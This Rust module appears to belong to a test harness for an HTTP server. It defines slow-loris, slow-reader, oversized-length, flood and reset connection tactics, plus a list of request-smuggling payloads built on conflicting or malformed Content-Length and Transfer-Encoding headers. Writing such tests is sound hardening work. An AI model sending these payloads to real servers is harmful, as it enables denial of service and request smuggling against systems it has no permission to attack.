//! The attacks: what each connection of a crowd sends, when, and what it reads.

use std::time::Duration;

/// What the connections of one attack do.
#[derive(Clone, Debug)]
pub(crate) struct Tactic {
    pub(crate) name: &'static str,
    /// What a connection sends first; where there are several, the next connection sends the next.
    pub(crate) first: Vec<Vec<u8>>,
    /// What it sends then, again and again, this often.
    pub(crate) again: Option<(Vec<u8>, Duration)>,
    pub(crate) reading: Reading,
    pub(crate) ending: Ending,
    /// So many times the connections that were asked for.
    pub(crate) times: usize,
    /// Two answers on one connection mean that a second request was found where there is none.
    pub(crate) is_desync: bool,
}

/// How a connection reads what it is answered.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Reading {
    All,
    /// A byte at a turn, through the smallest buffer that the system gives.
    Slow,
    Never,
}

/// How a connection ends, once its first bytes are sent.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Ending {
    /// It stays until the server closes it.
    Stays,
    HalfCloses,
    Resets,
}

const SECOND: Duration = Duration::from_secs(1);

/// All of them.
pub(crate) fn all() -> Vec<Tactic> {
    let chunked = "POST / HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n";
    let length =
        |length: &str| format!("POST / HTTP/1.1\r\nHost: x\r\nContent-Length: {length}\r\n\r\n");
    let request = "GET / HTTP/1.1\r\nHost: x\r\n\r\n";
    let halves = [request, &request[..20], "G", ""].map(str::as_bytes).map(<[u8]>::to_vec).to_vec();
    vec![
        Tactic::new("slow-head", "GET / HTTP/1.1\r\nHost: x\r\n").then("X-A: b\r\n", SECOND),
        Tactic::new("slow-body", &length("1000000")).then("a", SECOND),
        Tactic::new("slow-chunks", chunked).then("1\r\na\r\n", SECOND),
        Tactic::new("silence", ""),
        Tactic::new("slow-reader", &request.repeat(1_000)).reading(Reading::Slow),
        Tactic::new("never-reads", &request.repeat(1_000))
            .then(&request.repeat(1_000), Duration::ZERO)
            .reading(Reading::Never),
        Tactic::new("endless-line", "GET / HTTP/1.1\r\nHost: x\r\nX-A: ")
            .then(&"a".repeat(4_096), Duration::ZERO),
        Tactic::new("endless-chunk-line", &format!("{chunked}1;"))
            .then(&"a".repeat(4_096), Duration::ZERO),
        Tactic::new("endless-trailer", &format!("{chunked}0\r\n"))
            .then("X-A: b\r\n", Duration::ZERO),
        Tactic::new("huge-length", &length("9223372036854775807"))
            .then(&"a".repeat(4_096), Duration::ZERO),
        Tactic { times: 10, ..Tactic::new("flood", "") },
        Tactic { first: halves.clone(), ending: Ending::Resets, ..Tactic::new("resets", "") },
        Tactic { first: halves, ending: Ending::HalfCloses, ..Tactic::new("half-closes", "") },
        Tactic { first: ambiguous(), is_desync: true, ..Tactic::new("desync", "") },
    ]
}

impl Tactic {
    fn new(name: &'static str, first: &str) -> Tactic {
        Tactic {
            name,
            first: vec![first.as_bytes().to_vec()],
            again: None,
            reading: Reading::All,
            ending: Ending::Stays,
            times: 1,
            is_desync: false,
        }
    }

    fn then(self, bytes: &str, often: Duration) -> Tactic {
        Tactic { again: Some((bytes.as_bytes().to_vec(), often)), ..self }
    }

    fn reading(self, reading: Reading) -> Tactic {
        Tactic { reading, ..self }
    }
}

/// Requests whose end two readers could see in different places, each with one behind it that nobody may answer.
fn ambiguous() -> Vec<Vec<u8>> {
    let fields = [
        "Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n",
        "Content-Length: 0\r\nContent-Length: 52\r\n\r\n",
        "Content-Length: 0, 52\r\n\r\n",
        "Content-Length: +0\r\n\r\n",
        "Content-Length : 0\r\n\r\n",
        "X: y\r\n Content-Length: 52\r\n\r\n",
        "X: y\rContent-Length: 52\r\n\r\n",
        "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n2\r\nabXX0\r\n\r\n",
        "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n",
    ];
    let smuggled = "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n";
    let all =
        fields.map(|rest| format!("POST / HTTP/1.1\r\nHost: x\r\n{rest}{smuggled}").into_bytes());
    all.to_vec()
}
